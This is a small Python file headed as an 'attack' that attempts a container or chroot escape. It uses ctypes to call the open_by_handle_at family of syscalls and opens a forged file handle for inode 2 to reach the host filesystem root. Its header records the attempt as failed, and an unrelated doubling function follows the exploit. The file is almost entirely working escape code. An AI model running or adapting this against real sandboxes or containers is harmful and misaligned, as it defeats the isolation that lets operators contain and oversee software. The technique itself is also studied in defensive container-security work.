# /// attack
# tries = "Makes up a file handle, which is opened without any path, for the root of the file system below its own root."
# attempt = "failed"
# ///
import ctypes
import os
import struct

NUMBERS = {"x86_64": (303, 304), "aarch64": (264, 265)}[os.uname().machine]


def attempt():
    libc, mount = ctypes.CDLL(None), ctypes.c_int()
    handle = ctypes.create_string_buffer(struct.pack("<Ii", 128, 0) + bytes(128))
    if libc.syscall(NUMBERS[0], -100, b"/usr", handle, ctypes.byref(mount), 0) >= 0:
        return False if libc.syscall(NUMBERS[1], os.open("/usr", os.O_RDONLY), handle, 0) < 0 else True
    made_up = ctypes.create_string_buffer(struct.pack("<IiII", 8, 1, 2, 0))  # inode 2
    return any(libc.syscall(NUMBERS[1], os.open(path, os.O_RDONLY), made_up, 0) >= 0 for path in ("/usr", "."))


def double(x):
    return 2 * x
